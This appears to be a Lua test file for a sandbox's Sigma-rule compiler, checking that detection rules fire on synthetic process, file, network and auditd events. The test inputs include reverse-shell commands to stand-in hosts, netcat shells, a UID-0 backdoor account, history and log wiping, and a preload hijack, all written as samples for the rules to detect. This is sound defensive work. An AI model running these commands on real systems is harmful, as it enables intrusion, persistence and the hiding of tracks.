-- SPDX-License-Identifier: MIT
-- sbx.sigma: Sigma rules (tests/sigma/*.yml, written for these tests)
-- compiled to verdict rules and matched against synthetic runs; the rules
-- it does not support, each skipped with its reason; hostile rule files;
-- the regular expression matcher; one real box (run.lua --explore) whose
-- facts a process_creation and a file_event rule fire on; and one batch
-- (the analysis box) over the technique samples the rules target and the
-- benign corpus: each rule fires on its target, none on a benign program.
-- scripts/test.sh runs this file as root and as uid 65534.
local S = require "support"
local sigma = require "sbx.sigma"
local facts = require "sbx.facts"
local verdict = require "sbx.verdict"
local report = require "sbx.report"
local cjson = require "cjson"

-- the rule files that compile whole, and how many rules each holds
local SUPPORTED = { process_creation = 5, file_event = 3, network_connection = 4, modifiers = 17, conditions = 10,
	auditd = 9, keywords = 3 }

local function compile_file(name)
	local path = "tests/sigma/" .. name .. ".yml"
	local text = assert(S.read(path), path)
	return sigma.compile(text, path)
end

local function by_name(rules)
	local t = {}
	for _, r in ipairs(rules) do t[r.name] = r end
	return t
end

local RULES = {}
for f in pairs(SUPPORTED) do
	for name, r in pairs(by_name((compile_file(f)))) do RULES[name] = r end
end

-- the technique sample a rule targets: its description ends with
-- `target: tests/techniques/FILE`
local function target_of(r)
	return r.doc:match("target: (tests/techniques/[^%s]+)$")
end

local function exec(pid, ppid, path, argv, cwd)
	return { kind = "exec", pid = pid, ppid = ppid, path = path, argv = argv, cwd = cwd or "/work",
		answer = "allow" }
end

local function open(pid, path, flags, answer)
	return { kind = "open", pid = pid, path = path, flags = flags, answer = answer or "allow" }
end

local function connect(pid, addr, protocol, family)
	return { kind = "connect", pid = pid, family = family or "inet", addr = addr, protocol = protocol or "tcp",
		answer = "allow" }
end

local function words(s)
	local t = {}
	for w in s:gmatch("%S+") do t[#t + 1] = w end
	return t
end

-- a run of one process running cmdline (image: path, else /usr/bin/ + argv[1])
local function cmd_run(cmdline, path)
	local argv = words(cmdline)
	return { events = { exec(2, 1, path or "/usr/bin/" .. argv[1], argv) } }
end

-- a run of one connection (with the name it was looked up by, if any)
local function net_run(addr, protocol, hostname)
	local family = addr:find("^%[") and "inet6" or "inet"
	local run = { events = { connect(4, addr, protocol, family) } }
	if hostname then run.sink = { dns = { { hostname = hostname, answer = addr:match("^%[?([^%]]+)%]?:%d+$") } } } end
	return run
end

-- the finding of the rule named sigma.<name> on run (nil: did not fire)
local function fire(name, run)
	local r = assert(RULES["sigma." .. name], name)
	return r.fn(run, facts.of(run))
end

describe("sbx.sigma.compile", function()
	it("compiles every rule of the supported files", function()
		for f, n in pairs(SUPPORTED) do
			local rules, skipped = compile_file(f)
			assert.are.same({}, skipped, f)
			assert.are.equal(n, #rules, f)
		end
	end)

	it("names a rule after its id (else its title), with its doc, techniques, tactic and severity", function()
		local r = RULES["sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1"]
		assert.are.same({ "Crontab installed from a temporary file. A crontab is installed from a file "
			.. "under /tmp, a persistence step of droppers (the crontab command, or a shell command line that runs "
			.. "it). target: tests/techniques/T1053.003_cron.sh", { "T1053.003" }, "persistence", 7 },
			{ r.doc, r.attack, r.tactic, r.severity })
		r = RULES["sigma.Program_run_from_an_anonymous_memory_file"]
		-- tagged attack.defense-evasion: T1620's tactic since ATT&CK v19
		assert.are.same({ { "T1620" }, "stealth", 7 }, { r.attack, r.tactic, r.severity })
		assert.are.same({ {}, 9, "command-and-control" }, { RULES["sigma.Mod_lt"].attack,
			RULES["sigma.7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"].severity,
			RULES["sigma.7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"].tactic })
	end)

	it("says one target of each rule, a technique sample", function()
		for name, r in pairs(RULES) do
			local _, n = r.doc:gsub("target: ", "")
			assert.are.equal(1, n, name)
			local t = target_of(r)
			assert.truthy(t and S.read(t), name .. ": " .. tostring(t))
		end
	end)

	it("maps each level to a severity and a verdict (medium when none)", function()
		local run = cmd_run("sh -c x", "/bin/sh")
		for level, want in pairs { informational = { 1, "info" }, low = { 3, "suspicious" },
			medium = { 5, "suspicious" }, high = { 7, "malicious" }, critical = { 9, "malicious" },
			[""] = { 5, "suspicious" } } do
			local text = "title: L\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection: {s: {Image: /bin/sh}, condition: s}\n" .. (level ~= "" and "level: " .. level .. "\n" or "")
			local rules = sigma.compile(text, "l.yml")
			local f = rules[1].fn(run)
			assert.are.same(want, { rules[1].severity, f.verdict }, level)
			assert.are.equal(want[1], f.severity)
		end
	end)

	it("makes rules sbx.verdict accepts and judges with", function()
		for _, r in pairs(RULES) do assert.are.equal(r, (verdict.check_rule(r))) end
		local rules = compile_file("process_creation")
		local v = verdict.judge({ events = { exec(2, 1, "/usr/bin/crontab", { "crontab", "/tmp/x" }) } }, rules)
		assert.are.same({ "malicious", 7, {} }, { v.verdict, v.severity, v.errors })
		assert.are.same({ rule = "sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", attack = { "T1053.003" } },
			{ rule = v.reasons[1].rule, attack = v.reasons[1].attack })
	end)

	it("exports the fields of each category and the modifiers", function()
		assert.are.same({ "TargetFilename", "Image" }, sigma.FIELDS.file_event)
		assert.are.equal(8, #sigma.FIELDS.process_creation)
		assert.are.equal(6, #sigma.FIELDS.network_connection)
		local mods = {}
		for _, m in ipairs(sigma.MODIFIERS) do mods[m] = true end
		for _, m in ipairs { "contains", "startswith", "endswith", "all", "re", "re|i", "re|m", "re|s", "cidr",
			"windash", "base64", "base64offset", "exists", "cased", "lt", "lte", "gt", "gte" } do
			assert.truthy(mods[m], m)
		end
	end)

	it("raises for misuse only", function()
		assert.has_error(function() sigma.compile(42) end, "bad argument #1 to 'compile' (string expected, got number)")
		assert.has_error(function() sigma.compile(nil) end, "bad argument #1 to 'compile' (string expected, got nil)")
		assert.has_error(function() sigma.compile("", {}) end, "bad argument #2 to 'compile' (string expected, got table)")
	end)
end)

-- a rule of one process_creation selection with these tags
local function tagged(tags)
	local text = "title: Tagged\nlogsource: {product: linux, category: process_creation}\n"
		.. "detection:\n    selection:\n        Image: /usr/sbin/setenforce\n    condition: selection\n"
		.. "level: high\ntags:\n"
	for _, t in ipairs(tags) do text = text .. "    - " .. t .. "\n" end
	local rules, skipped = sigma.compile(text, "tagged.yml")
	assert.are.same({}, skipped or {})
	return rules[1]
end

describe("sbx.sigma ATT&CK ids", function()
	it("names a revoked id's successor (ATT&CK 19.0) and says both in its reason", function()
		local r = tagged { "attack.defense-evasion", "attack.t1562.001" }
		assert.are.same({ { "T1685" }, "defense-impairment" }, { r.attack, r.tactic })
		local f = r.fn({ events = { exec(2, 1, "/usr/sbin/setenforce", { "setenforce", "0" }) } })
		assert.are.same({ "T1685" }, f.attack)
		assert.matches("sigma Tagged [T1562.001 is now T1685]: Image=/usr/sbin/setenforce", f.reason, 1, true)
	end)

	it("keeps a current id and a current tactic tag; one id for an old and its successor", function()
		local r = tagged { "attack.stealth", "attack.t1070.003", "attack.t1562.003", "attack.t1690" }
		assert.are.same({ { "T1070.003", "T1690" }, "stealth" }, { r.attack, r.tactic })
		r = tagged { "attack.defense_impairment", "attack.t1686" }
		assert.are.same({ { "T1686" }, "defense-impairment" }, { r.attack, r.tactic })
		assert.are.same({ {}, "stealth" }, { tagged({ "attack.defense-evasion" }).attack,
			tagged({ "attack.defense-evasion" }).tactic })
	end)

	it("drops an id ATT&CK 19.0 does not have, and says so", function()
		local r = tagged { "attack.t1999", "attack.t1059.004" }
		assert.are.same({ "T1059.004" }, r.attack)
		local f = r.fn({ events = { exec(2, 1, "/usr/sbin/setenforce", { "setenforce", "0" }) } })
		assert.matches("[T1999 is unknown in ATT&CK 19.0]", f.reason, 1, true)
	end)
end)

describe("sbx.sigma process_creation", function()
	it("fires on a crontab installed from /tmp and quotes the event", function()
		local f = fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", { events = {
			exec(2, 1, "/usr/bin/crontab", { "crontab", "/tmp/x" }) } })
		-- the match in VirusTotal's shape (sbx.verdict gathers it)
		local m = f.sigma
		f.sigma = nil
		assert.are.same({ "Crontab installed from a temporary file", "5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", "high" },
			{ m.rule_title, m.rule_id, m.rule_level })
		assert.are.equal("crontab /tmp/x", m.match_context[1].values.CommandLine)
		assert.are.equal("/usr/bin/crontab", m.match_context[1].values.Image)
		assert.are.same({ verdict = "malicious", severity = 7, count = 1, attack = { "T1053.003" },
			reason = "sigma Crontab installed from a temporary file (5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1): "
				.. 'Image=/usr/bin/crontab CommandLine="crontab /tmp/x"' }, f)
		assert.truthy(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("sh -c id;crontab /tmp/x", "/bin/sh")))
		assert.is_nil(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("crontab -l")))
		assert.is_nil(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("mycrontab /tmp/x")))
	end)

	it("matches a parent's image and a command line with wildcards, and a list of images", function()
		local MEMFD = "Program_run_from_an_anonymous_memory_file"
		local function run(parent, image, name)
			return { events = { exec(2, 1, parent, { parent }), exec(3, 2, image, { name }) } }
		end
		assert.truthy(fire(MEMFD, run("/work/x.py", "/memfd: (deleted)", "[kworker/u8:1-events]")))
		assert.truthy(fire(MEMFD, run("/tmp/a.py", "/proc/self/fd/3", "[kworker/u1:0-mm]")))
		assert.is_nil(fire(MEMFD, run("/work/x.sh", "/memfd: (deleted)", "[kworker/u8:1-events]")))
		assert.is_nil(fire(MEMFD, run("/work/x.py", "/usr/bin/id", "[kworker/u8:1-events]")))
		-- ? is one character: neither none nor two
		assert.is_nil(fire(MEMFD, run("/work/x.py", "/memfd: x", "[kworker/8:1-events]")))
		assert.is_nil(fire(MEMFD, run("/work/x.py", "/memfd: x", "[kworker/u8:10-events]")))
	end)

	it("takes escaped wildcards as themselves", function()
		local HISTORY = "Browser_history_read_through_a_profile_wildcard"
		assert.truthy(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/*/places.sqlite?mode=ro SELECT 1")))
		assert.is_nil(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/ab/places.sqlite?mode=ro SELECT 1")))
		assert.is_nil(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/*/places.sqliteXmode=ro SELECT 1")))
		assert.is_nil(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/*/places.sqlite?mode=ro")))
	end)

	it("has the user, the directory and the pids (compared as numbers too)", function()
		local DECODE = "Hex_payload_decoded_in_tmp_by_the_first_process"
		local function run(ppid, cwd)
			return { events = { exec(2, 1, "/work/x.sh", { "/work/x.sh" }),
				exec(7, ppid, "/usr/bin/xxd", { "xxd", "-r", "-p" }, cwd) } }
		end
		assert.truthy(fire(DECODE, run(2, "/tmp")))
		assert.are.equal("info", fire(DECODE, run(2, "/tmp")).verdict)
		assert.is_nil(fire(DECODE, run(2, "/work")))
		assert.is_nil(fire(DECODE, run(3, "/tmp")))
	end)

	it("has the parent's command line", function()
		local BASH = "Interactive_bash_under_a_dev_tcp_redirection"
		local function run(parent_cmd)
			return { events = { exec(3, 2, "/usr/bin/bash", { "bash", "-c", parent_cmd }),
				exec(4, 3, "/usr/bin/bash", { "bash", "-i" }) } }
		end
		assert.truthy(fire(BASH, run("bash -i >& /dev/tcp/h.example/4444 0>&1")))
		assert.is_nil(fire(BASH, run("bash -i")))
	end)
end)

describe("sbx.sigma file_event", function()
	local CRON = "0c6d2a4e-8b1f-4e73-a5d9-6f3e2b7c1d08"
	local WEBSHELL = "Hidden_PHP_file_written_under_a_web_root"

	it("fires on a write the kernel refused, quotes it and counts the others", function()
		local run = { events = { exec(3, 1, "/usr/bin/crontab", { "crontab", "-" }),
			open(3, "/etc/cron.d/x", 577, "deny"), open(3, "/var/spool/cron/crontabs/sbx", 1, "deny") } }
		local f = fire(CRON, run)
		assert.are.same({ "malicious", 7, 2 }, { f.verdict, f.severity, f.count })
		assert.are.equal("sigma Cron file written (" .. CRON .. "): TargetFilename=/etc/cron.d/x "
			.. "Image=/usr/bin/crontab (2 in all)", f.reason)
	end)

	it("does not fire on a read, nor on a write elsewhere", function()
		assert.is_nil(fire(CRON, { events = { open(3, "/etc/crontab", 0) } }))
		assert.is_nil(fire(CRON, { events = { open(3, "/etc/hosts", 577) } }))
	end)

	it("counts a file the box left, and a path written twice once", function()
		local run = { events = { open(3, "/var/www/html/.x.php", 577), open(3, "/var/www/html/.x.php", 577) },
			files_dropped = { { path = "/var/www/html/.x.php", mode = "644", size = 3 },
				{ path = "/srv/http/.y.php", mode = "644" } } }
		local f = fire(WEBSHELL, run)
		assert.are.equal("sigma Hidden PHP file written under a web root: TargetFilename=/var/www/html/.x.php "
			.. "(2 in all)", f.reason)
		assert.is_nil(fire(WEBSHELL, { files_dropped = { { path = "/var/www/html/a/.b.php", mode = "644" } } }))
		assert.is_nil(fire(WEBSHELL, { events = { open(3, "/var/www/html/index.php", 577) } }))
	end)

	it("matches the image that wrote", function()
		local function run(image)
			return { events = { exec(3, 1, image, { "x" }), open(3, "/work/.bashrc", 1 | 1024) } }
		end
		assert.truthy(fire("Shell_profile_changed_by_a_shell", run("/bin/bash")))
		assert.is_nil(fire("Shell_profile_changed_by_a_shell", run("/usr/bin/python3")))
	end)
end)

describe("sbx.sigma network_connection", function()
	local C2 = "7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"

	it("fires on a connection to a private address on a shell port, with its host name", function()
		local run = { events = { exec(4, 1, "/usr/bin/nc", { "nc", "10.0.0.2", "4444" }), connect(4, "10.0.0.2:4444") },
			sink = { dns = { { hostname = "c2.example", answer = "10.0.0.2" } },
				traffic = { { protocol = "tcp", address = "10.0.0.2", port = 4444, bytes = 10 } } } }
		local f = fire(C2, run)
		assert.are.equal("10.0.0.2", f.sigma.match_context[1].values.DestinationIp)
		f.sigma = nil
		assert.are.same({ verdict = "malicious", severity = 9, count = 1, attack = { "T1571" },
			reason = "sigma Connection to a private address on a shell port (" .. C2 .. "): "
				.. "DestinationIp:Port=10.0.0.2:4444 Protocol=tcp DestinationHostname=c2.example Image=/usr/bin/nc" }, f)
	end)

	it("matches IPv6 and not a public address or another port", function()
		local f = fire(C2, { events = { connect(4, "[fd00::5]:1337", "tcp", "inet6") } })
		assert.truthy(f.reason:find("DestinationIp:Port=[fd00::5]:1337", 1, true))
		assert.is_nil(fire(C2, { events = { connect(4, "8.8.8.8:4444") } }))
		assert.is_nil(fire(C2, { events = { connect(4, "10.0.0.2:80") } }))
	end)

	it("reads the sink's traffic when no connection names it", function()
		local run = { sink = { dns = { { hostname = "transfer.sh", answer = "10.9.9.9" } },
			traffic = { { protocol = "tcp", address = "10.9.9.9", port = 443, bytes = 10 } } } }
		assert.are.equal("sigma Upload to a file sharing site: DestinationIp:Port=10.9.9.9:443 Protocol=tcp "
			.. "DestinationHostname=transfer.sh", fire("Upload_to_a_file_sharing_site", run).reason)
		run.sink.dns[1].hostname = "transfer.sh.example.org"
		assert.is_nil(fire("Upload_to_a_file_sharing_site", run))
	end)

	it("compares ports as numbers", function()
		local IRC, SMB = "UDP_to_an_IRC_port", "SMB_port_probed_by_address"
		assert.truthy(fire(IRC, net_run("10.1.1.1:6667", "udp")))
		assert.truthy(fire(IRC, net_run("10.1.1.1:6660", "udp")))
		assert.is_nil(fire(IRC, net_run("10.1.1.1:6670", "udp")))
		assert.is_nil(fire(IRC, net_run("10.1.1.1:6659", "udp")))
		assert.is_nil(fire(IRC, net_run("10.1.1.1:6667", "tcp")))
		assert.truthy(fire(SMB, net_run("10.1.1.1:445")))
		assert.is_nil(fire(SMB, net_run("10.1.1.1:4450")))
	end)

	it("takes null as a field that is absent", function()
		assert.truthy(fire("SMB_port_probed_by_address", net_run("10.1.1.1:445")))
		assert.is_nil(fire("SMB_port_probed_by_address", net_run("10.1.1.1:445", "tcp", "files.example")))
	end)
end)

describe("sbx.sigma modifiers", function()
	-- rule, command lines it fires on, command lines it does not (image:
	-- /usr/bin/ and the first word)
	local CASES = {
		{ "Mod_contains", { "nft flush ruleset", "/usr/sbin/NFT FLUSH RULESET" }, { "nft list ruleset", "flush" } },
		{ "Mod_all", { "nc -e /bin/sh 10.0.0.2 4444", "busybox nc x -e /bin/sh" },
			{ "nc -l 4444 /bin/sh", "nc -e /bin/bash x", "ncat -e /bin/sh x" } },
		{ "Mod_re", { "rm -f /var/log/wtmp /var/log/btmp", "rm /var/log/lastlog" },
			{ "rm -f /var/log/syslog", "echo rm -f /var/log/wtmp", "rm -f /var/log/wtmpx" } },
		{ "Mod_re_i", { "openssl enc -d -aes-256-cbc -in x", "OpenSSL ENC -D -AES-128-CBC -in x" },
			{ "openssl enc -aes-256-cbc -out x", "openssl enc -d -aes-256-gcm -in x" } },
		{ "Mod_re_all", { "chmod 4755 /tmp/x", "chmod u+s /tmp/x", "chmod g+s,o-w d" },
			{ "chmod 755 /tmp/x", "chmod 0755 x", "sh chmod 4755 x", "chmod +x f" } },
		{ "Mod_windash", { "useradd -M -o -u 0 -g 0 x", "useradd /o /u 0 x", "useradd \u{2013}o \u{2014}u 0 x" },
			{ "useradd -o -u 1000 x", "useradd +o +u 0 x", "useradd -o-u 0 x" } },
		{ "Mod_base64", { "grep ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ0 x", "echo C3NzaC1lZDI1NTE5" },
			{ "echo c3NzaC1lZDI1NTE5", "echo ssh-ed25519" } },
		{ "Mod_base64offset", { "echo YmFja2Rvb3I=", "echo eCBiYWNrZG9vcg==", "echo eHliYWNrZG9vcg==" },
			{ "echo backdoor", "echo YMFJA2RVB3I=" } },
		{ "Mod_cased", { "grep ENCRYPT_METHOD /etc/login.defs" },
			{ "grep encrypt_method /etc/login.defs", "grep Encrypt_Method x" } },
	}
	for _, c in ipairs(CASES) do
		it(c[1]:gsub("_", " ", 1), function()
			for _, cmd in ipairs(c[2]) do assert.truthy(fire(c[1], cmd_run(cmd)), cmd) end
			for _, cmd in ipairs(c[3]) do assert.is_nil(fire(c[1], cmd_run(cmd)), cmd) end
		end)
	end

	it("Mod re m, re s (a command line of several lines)", function()
		local function py(code) return { events = { exec(2, 1, "/usr/bin/python3", { "python3", "-c", code }) } } end
		local raw = "\nimport socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\ns.recv(9)\n"
		assert.truthy(fire("Mod_re_m", py(raw)))
		assert.truthy(fire("Mod_re_s", py(raw)))
		-- without m, ^ is the start of the text; without s, . is no newline
		assert.truthy(sigma.regex("^s = socket", "m")(raw))
		assert.is_false(sigma.regex("^s = socket")(raw))
		assert.is_false(sigma.regex("AF_PACKET.*recv")(raw))
		assert.is_nil(fire("Mod_re_m", py("import socket; s = socket.socket(socket.AF_PACKET, 3)")))
		assert.is_nil(fire("Mod_re_s", py("\ns = socket.socket(socket.AF_INET)\ns.recv(9)\n")))
	end)

	it("Mod startswith, endswith (images)", function()
		assert.truthy(fire("Mod_startswith", cmd_run("x", "/dev/shm/.k/kworker")))
		assert.is_nil(fire("Mod_startswith", cmd_run("x", "/dev/shmx/y")))
		assert.is_nil(fire("Mod_startswith", cmd_run("x", "/tmp/dev/shm/x")))
		assert.truthy(fire("Mod_endswith", cmd_run("x", "/usr/bin/nc")))
		assert.truthy(fire("Mod_endswith", cmd_run("x", "/usr/bin/ncat")))
		assert.is_nil(fire("Mod_endswith", cmd_run("x", "/usr/bin/rnc")))
	end)

	it("Mod exists", function()
		assert.truthy(fire("Mod_exists", net_run("10.0.0.2:3389")))
		assert.is_nil(fire("Mod_exists", net_run("10.0.0.2:3389", "tcp", "rdp.example")))
		assert.is_nil(fire("Mod_exists", net_run("10.0.0.2:3390")))
	end)

	it("Mod cidr (IPv4, IPv6, IPv4-mapped)", function()
		for _, a in ipairs { "10.0.0.3:6379", "[2001:db8::1]:6379", "[::ffff:10.0.0.7]:6379" } do
			assert.truthy(fire("Mod_cidr", net_run(a)), a)
		end
		for _, a in ipairs { "10.0.0.8:6379", "[2001:db9::1]:6379", "[::1]:6379", "10.0.0.3:6380" } do
			assert.is_nil(fire("Mod_cidr", net_run(a)), a)
		end
	end)

	it("Mod lt, lte", function()
		for port, want in pairs { [134] = false, [135] = true, [139] = true, [140] = false } do
			assert.are.equal(want, fire("Mod_lt", net_run("10.1.1.1:" .. port)) ~= nil, port)
		end
		assert.is_nil(fire("Mod_lt", net_run("10.1.1.1:135", "udp")))
		for port, want in pairs { [5899] = false, [5900] = true, [5903] = true, [5904] = false } do
			assert.are.equal(want, fire("Mod_lte", net_run("10.1.1.1:" .. port)) ~= nil, port)
		end
	end)
end)

describe("sbx.sigma service auditd", function()
	local KW = "sigma.Auditd_keywords_history_linked_to_the_null_device"
	local function fires(name, run) return RULES[name].fn(run, facts.of(run)) end
	local function ids(run)
		local out = {}
		for name, r in pairs(RULES) do
			if name:find("^sigma%.3d0c5a2e") or name:find("^sigma%.Auditd") then
				if r.fn(run, facts.of(run)) then out[#out + 1] = name end
			end
		end
		table.sort(out)
		return out
	end

	it("EXECVE: a0..aN from argv, argc, re|ignorecase, re|multiline, re|dotall", function()
		local f = fire("3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11",
			cmd_run("bash -c bash_-i_>&_/dev/tcp/10.0.0.1/4444_0>&1"))
		assert.is_nil(f) -- a2 is one word here: no space after -i
		local run = { events = { exec(2, 1, "/usr/bin/bash", { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }) } }
		f = fire("3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11", run)
		assert.are.equal("sigma Auditd EXECVE shell to a TCP device (3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11): "
			.. 'type=EXECVE command line="bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"', f.reason)
		assert.is_nil(fire("3d0c5a2e-8b71-4f6e-a1c4-6e2f9b7d0a11",
			{ events = { exec(2, 1, "/usr/bin/sh", { "sh", "-c", "bash -i >& /dev/tcp/x/1" }) } }))
		local argv0 = "Auditd_EXECVE_argv0_of_a_kernel_thread"
		assert.truthy(fire(argv0, { events = { exec(2, 1, "/dev/shm/k", { "[kworker/0:1]", "5" }) } }))
		assert.is_nil(fire(argv0, { events = { exec(2, 1, "/dev/shm/k", { "[kworker/0:1]" }) } }))
		local function py(code) return { events = { exec(2, 1, "/usr/bin/python3", { "python3", "-c", code }) } } end
		local raw = "\nimport socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\ns.settimeout(1)\ns.recv(9)\n"
		assert.truthy(fire("Auditd_EXECVE_raw_packet_socket_in_a_one-liner", py(raw)))
		assert.is_nil(fire("Auditd_EXECVE_raw_packet_socket_in_a_one-liner", py(raw:gsub("\ns = ", "; s = "))))
		assert.is_nil(fire("Auditd_EXECVE_raw_packet_socket_in_a_one-liner", py(raw:gsub("recv", "close"))))
	end)

	it("PATH: name and nametype from opens, deletes and renames", function()
		local name = "Auditd_PATH_preload_list_created_or_appended_to"
		local f = fire(name, { events = { open(2, "/etc/ld.so.preload", 1 | 64 | 1024, "deny") } })
		assert.truthy(f.reason:find('type=PATH record="type=PATH name=/etc/ld.so.preload nametype=CREATE"', 1, true))
		assert.is_nil(fire(name, { events = { open(2, "/etc/ld.so.preload", 0) } }))
		local unit = "Auditd_PATH_systemd_unit_created"
		assert.truthy(fire(unit, { events = { open(2, "/home/dana/.config/systemd/user/x.service", 65) } }))
		assert.truthy(fire(unit, { events = { { kind = "rename", pid = 2, path = "/tmp/x", to = "/etc/systemd/system/y.service",
			answer = "allow" } } }))
		assert.is_nil(fire(unit, { events = { { kind = "delete", pid = 2, path = "/etc/systemd/system/y.service",
			syscall = "unlinkat", answer = "allow" } } }))
		assert.is_nil(fire(unit, { events = { open(2, "/etc/systemd/system/y.service", 0) } }))
	end)

	it("SYSCALL: name and number, exe, comm, success, and key from the rule's definition", function()
		local shm = "Auditd_SYSCALL_execve_from_shared_memory"
		local run = { events = { exec(2, 1, "/dev/shm/.k/kworker", { "[kworker/0:2H]", "1" }) } }
		local f = fire(shm, run)
		assert.are.equal("sigma Auditd SYSCALL execve from shared memory: type=SYSCALL record=\"type=SYSCALL "
			.. "SYSCALL=execve syscall=59 success=yes pid=2 ppid=1 comm=kworker exe=/dev/shm/.k/kworker\"", f.reason)
		run.events[1].answer = "deny"
		assert.is_nil(fire(shm, run))
		assert.is_nil(fire(shm, { events = { exec(2, 1, "/dev/shm/.k/kworker.bin", { "x" }) } }))
		local key = "Auditd_SYSCALL_key_of_a_watched_program"
		assert.truthy(fire(key, cmd_run("tcpdump -i any")))
		assert.truthy(fire(key, cmd_run("tcpdump", "/bin/tcpdump")))
		assert.is_nil(fire(key, cmd_run("tcpdumpx -i any")))
		assert.is_nil(fire(key, { events = { open(2, "/usr/bin/tcpdump", 0) } })) -- -p x: a read is not keyed
		local rules = sigma.compile("title: K\nlogsource:\n  product: linux\n  service: auditd\n  definition: |\n"
			.. "    -a always,exit -F arch=b64 -S memfd_create,ptrace -k sbx_inject\n"
			.. "    -w /etc/shadow -p r -k sbx_shadow\n"
			.. "detection: {s: {key: [sbx_inject, sbx_shadow]}, condition: s}\n")
		assert.are.equal(1, #rules)
		assert.truthy(rules[1].fn({ events = { { kind = "memfd", pid = 2, path = "x", answer = "allow" } } }))
		assert.truthy(rules[1].fn({ events = { open(2, "/etc/shadow", 0, "deny") } }))
		assert.is_nil(rules[1].fn({ events = { open(2, "/etc/shadow-", 0) } }))
		local _, skipped = sigma.compile("title: K\nlogsource: {product: linux, service: auditd, definition: "
			.. "'-a always,exit -F euid=33 -S execve -k web'}\ndetection: {s: {key: web}, condition: s}\n")
		assert.are.equal("key 'web': no audit rule of the rule's definition sets it (only -w and -S rules)",
			skipped[1].why)
	end)

	it("SOCKADDR, CWD, PROCTITLE; keywords over an EXECVE record", function()
		local f = fire("Auditd_SOCKADDR_shell_port", { events = { connect(2, "10.0.0.1:4444") } })
		assert.truthy(f.reason:find("saddr=0200115C0A0000010000000000000000", 1, true), f.reason)
		assert.is_nil(fire("Auditd_SOCKADDR_shell_port", { events = { connect(2, "10.0.0.1:4445") } }))
		local rules = sigma.compile("title: C\nlogsource: {product: linux, service: auditd}\n"
			.. "detection: {cwd: {type: CWD, cwd|startswith: /tmp/}, title: {proctitle|contains: 'sh -i'}, "
			.. "condition: cwd or title}\n")
		assert.truthy(rules[1].fn({ events = { exec(2, 1, "/bin/ls", { "ls" }, "/tmp/.x") } }))
		assert.truthy(rules[1].fn(cmd_run("nc -e /bin/sh -i x")))
		assert.is_nil(rules[1].fn(cmd_run("ls /tmp/")))
		assert.truthy(fires(KW, cmd_run("ln -sf /dev/null /home/dana/.bash_history")))
		assert.is_nil(fires(KW, cmd_run("ln -sf /dev/null /home/dana/.bash_profile")))
		assert.is_nil(fires(KW, { events = { open(2, "/home/dana/ln -sf /dev/null _history", 65) } }))
		assert.are.same({}, ids(cmd_run("ls -la /tmp")))
	end)
end)

describe("sbx.sigma keywords (product linux, no category)", function()
	it("match command lines, with wildcards, |all and re|ignorecase", function()
		assert.truthy(fire("Keywords_shell_on_a_TCP_device", cmd_run("bash -c sh -i >& /dev/tcp/1.2.3.4/80")))
		assert.is_nil(fire("Keywords_shell_on_a_TCP_device", cmd_run("cat /dev/tcp/1.2.3.4/80")))
		local h = "Keywords_history_emptied"
		assert.truthy(fire(h, cmd_run("ln -sf /dev/null /home/dana/.zsh_history")))
		assert.truthy(fire(h, cmd_run("rm -f /root/.bash_history")))
		assert.is_nil(fire(h, cmd_run("ln -sf /dev/null /home/dana/.bashrc")))
		assert.is_nil(fire(h, cmd_run("ls -la /home/dana/.bash_history")))
		local f = fire("Keywords_library_copied_to_a_hidden_file_in_tmp", cmd_run("cp /usr/lib/libz.so.1 /tmp/.l.so"))
		assert.are.equal('sigma Keywords library copied to a hidden file in tmp: command line="cp /usr/lib/libz.so.1 '
			.. '/tmp/.l.so" Image=/usr/bin/cp', f.reason)
		assert.is_nil(fire("Keywords_library_copied_to_a_hidden_file_in_tmp", cmd_run("cp /usr/lib/libz.so.1 /tmp/l.so")))
		local rule = sigma.compile("title: S\nlogsource: {product: linux}\n"
			.. "detection: {k: {'|startswith': ['ls '], '|endswith': ['-la', '-al']}, condition: k}\n")[1]
		assert.truthy(rule.fn(cmd_run("ls / -la")))
		assert.is_nil(rule.fn(cmd_run("x ls / -la")))
		assert.is_nil(rule.fn(cmd_run("ls -la /")))
	end)

	it("match script lines where the facts have them, and do without", function()
		local rule = sigma.compile("title: S\nlogsource: {product: linux}\n"
			.. "detection: {k: ['unset HISTFILE', 'history -c'], condition: k}\n")[1]
		local run = cmd_run("sh /tmp/x.sh")
		local F = facts.of(run)
		assert.is_nil(rule.fn(run, F))
		F = facts.of(run)
		F.scripts = { { language = "sh", source = "/tmp/x.sh", lines = { "echo hi", "unset HISTFILE" } } }
		assert.are.equal('sigma S: script line="unset HISTFILE" Image=/tmp/x.sh', rule.fn(run, F).reason)
		F = facts.of(run)
		F.scripts = { [7] = { language = "bash", source = "-c", text = "ls\nhistory -c\n" }, [3] = "not a table" }
		assert.truthy(rule.fn(run, F))
		F = facts.of(run)
		F.scripts = { { source = "/tmp/y.sh", lines = { "history", "echo -c" } } }
		assert.is_nil(rule.fn(run, F))
	end)
end)

describe("sbx.sigma conditions", function()
	-- rule, then { image, command line, whether it fires }
	local CASES = {
		{ "Cond_and_not", { "/usr/bin/systemctl", "systemctl stop mysql", true },
